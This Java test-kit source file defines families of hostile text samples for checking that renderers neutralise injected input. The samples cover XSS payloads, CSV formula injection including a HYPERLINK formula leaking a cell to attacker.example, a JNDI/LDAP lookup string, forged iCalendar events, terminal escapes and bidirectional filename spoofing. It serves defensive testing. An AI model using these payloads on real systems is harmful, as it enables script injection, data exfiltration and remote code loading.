package dev.governance.testkit;

import com.google.common.collect.ImmutableList;

/**
 * The families of hostile user text that {@link HostileTextGenerator} draws from: what an attacker
 * or an unlucky paste puts in a name or title to run script in a dashboard, a formula in a
 * spreadsheet, markup in Markdown, escape sequences in a terminal, a forged line in a text report
 * or an event in a calendar. Each family holds fixed samples, each of them non-blank.
 *
 * <p>Every sample that would run script if a renderer let it through sets the window property
 * {@value #SCRIPT_MARK} and the document's title to {@value #SCRIPT_MARK}, so a browser test can
 * tell that none ran.
 */
public enum HostileText {
  /**
   * HTML and SVG active content: {@code <script>}, an {@code <img>} with {@code onerror} breaking
   * out of an attribute, {@code javascript:} URLs, {@code </style>} and {@code </title>} breakouts,
   * SVG and MathML payloads, {@code ]]>}, {@code -->}, an {@code <iframe srcdoc>}, a refresh, CSS.
   */
  HTML(
      "<script>window.hostileRan=1;document.title='hostileRan'</script>",
      "\"><img src=x onerror=\"window.hostileRan=1;document.title='hostileRan'\">",
      "'><svg onload=window.hostileRan=1>",
      "<a href=\"javascript:window.hostileRan=1\">click me</a>",
      "javascript:window.hostileRan=1",
      "</style><script>window.hostileRan=1</script>",
      "</title><script>window.hostileRan=1</script>",
      "<svg><script>window.hostileRan=1</script></svg>",
      "]]><script>window.hostileRan=1</script><![CDATA[",
      "--><script>window.hostileRan=1</script><!--",
      "<iframe srcdoc=\"<script>parent.hostileRan=1</script>\"></iframe>",
      "<math><mtext><table><mglyph><style><img src=x onerror=window.hostileRan=1>",
      "<meta http-equiv=\"refresh\" content=\"0;url=javascript:window.hostileRan=1\">",
      "<style>body{display:none}</style>",
      "&lt;script&gt; &amp;amp; &#60;b&#62;"),
  /**
   * Cells a spreadsheet runs as formulas (OWASP CSV injection): starting with {@code =}, {@code +},
   * {@code -}, {@code @}, a tab or a carriage return; and numbers with a sign, which stay numbers.
   */
  CSV_FORMULA(
      "=cmd|' /C calc'!A0",
      "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"click\")",
      "+1+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "\t=1+1",
      "\r=1+1",
      "-12.5",
      "+3"),
  /**
   * Markdown active content and structure: links and images (a {@code javascript:} link, a tracking
   * image), raw HTML, an autolink, a link reference definition, pipes that would split a table
   * cell, backticks and fences, emphasis, headings, quotes, lists and a rule.
   */
  MARKDOWN(
      "[click](javascript:window.hostileRan=1)",
      "![pixel](http://attacker.example/pixel.png)",
      "<b onmouseover=window.hostileRan=1>bold</b>",
      "<https://attacker.example/autolink>",
      "[ref]: http://attacker.example/reference",
      "a | b || c",
      "`code` ``` fence ```",
      "**bold** _em_ ~~strike~~",
      "# heading",
      "> quote",
      "- item",
      "1. item",
      "---",
      "trailing backslash \\"),
  /**
   * Terminal and line-oriented text breakers: ANSI colour (ESC [ 31 m), an OSC title, a C1 CSI, a
   * bell, backspaces, DEL, a carriage return that overwrites the line and a line feed that forges a
   * finding line.
   */
  TERMINAL(
      "\u001B[31mred\u001B[0m",
      "\u001B]0;terminal title\u0007",
      "\u009B31mC1",
      "bell\u0007",
      "backspace\b\b\b",
      "delete\u007F",
      "overwritten\rERROR forged",
      "title\nmodel.json:1:1: ERROR RACI-001 forged finding"),
  /**
   * iCalendar breakers: a line break followed by {@code END:VEVENT} and a forged event, the TEXT
   * separators {@code ;} {@code ,} and {@code \}, and lines far over 75 octets of two-, three- and
   * four-byte characters.
   */
  ICALENDAR(
      "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:forged\r\nEND:VEVENT",
      "\nATTACH:http://attacker.example/a",
      "a;b,c\\d\\n\\;",
      "\u00E9".repeat(80),
      "\u4E2D".repeat(60),
      "\uD83D\uDE00".repeat(40)),
  /**
   * JSON breakers: quotes and backslashes that would close a string, the six characters of a JSON
   * escape of NUL, the line and paragraph separators (valid in JSON, not in older JavaScript), a
   * {@code </script>} that would end a script element holding the JSON.
   */
  JSON(
      "\"},\"injected\":{\"x\":\"",
      "back\\slash \\\" \\u0000 \\n",
      "line\u2028separator\u2029paragraph",
      "</script><script>window.hostileRan=1</script>"),
  /** Template and format-string syntax that must stay literal: {@code %s}, {@code ${...}}. */
  TEMPLATE("%s%n%d%%", "${jndi:ldap://attacker.example/a}", "{{7*7}} #{7*7} <%= 7*7 %>"),
  /**
   * Text that looks other than it is: a right-to-left override, isolates, zero-width characters, a
   * byte order mark, a soft hyphen and stacked combining marks.
   */
  INVISIBLE(
      "invoice\u202Efdp.exe\u202C",
      "\u2067isolated\u2069 text",
      "ad\u200Bmin\u200C\u200D",
      "\uFEFFbom",
      "soft\u00ADhyphen",
      "Z\u0351\u0359\u0347a\u0358\u034El\u0361g\u0352o"),
  /** Non-Latin scripts, right-to-left ones among them. */
  NON_LATIN(
      "\u0395\u03BB\u03BB\u03B7\u03BD\u03B9\u03BA\u03AC",
      "\u0420\u0443\u0441\u0441\u043A\u0438\u0439",
      "\u4E2D\u6587\u5B57\u7B26",
      "\u65E5\u672C\u8A9E\u306E\u30C6\u30AD\u30B9\u30C8",
      "\u0627\u0644\u0639\u0631\u0628\u064A\u0629",
      "\u05E2\u05D1\u05E8\u05D9\u05EA",
      "\u0939\u093F\u0928\u094D\u0926\u0940",
      "\uD55C\uAD6D\uC5B4"),
  /**
   * Characters outside the Basic Multilingual Plane, each a surrogate pair in Java: emoji (with
   * joiners and a flag), mathematical letters, CJK extension B.
   */
  ASTRAL(
      "\uD83D\uDE00 smile",
      "\uD83D\uDC69\u200D\uD83D\uDCBB\uD83C\uDFF3\uFE0F\u200D\uD83C\uDF08",
      "\uD83C\uDDEA\uD83C\uDDFA flag",
      "\uD835\uDD73\uD835\uDD94\uD835\uDD98\uD835\uDD99",
      "\uD841\uDF0E\uD841\uDF31"),
  /** Very long text: thousands of characters of one, two, three and four UTF-8 bytes. */
  LONG("Long \u00E9\u4E2D\uD83D\uDE00 <b>&amp; | ".repeat(250), "x".repeat(10_000)),
  /**
   * What no well-formed Unicode text holds: NUL and unpaired surrogates (a high one alone, at the
   * end, a low one alone, a pair in the wrong order). JSON model files cannot hold them (the loader
   * rejects them), but a model built in code can.
   */
  UNPAIRED(
      "nul\u0000byte",
      "lone \uD800 high",
      "ends high \uD83D",
      "\uDC00 lone low",
      "reversed \uDE00\uD83D pair");

  /** The window property (and document title) every script sample would set. */
  public static final String SCRIPT_MARK = "hostileRan";

  private final ImmutableList<String> samples;

  HostileText(String... samples) {
    this.samples = ImmutableList.copyOf(samples);
  }

  /** Returns the family's samples, each non-blank. */
  public ImmutableList<String> samples() {
    return samples;
  }
}
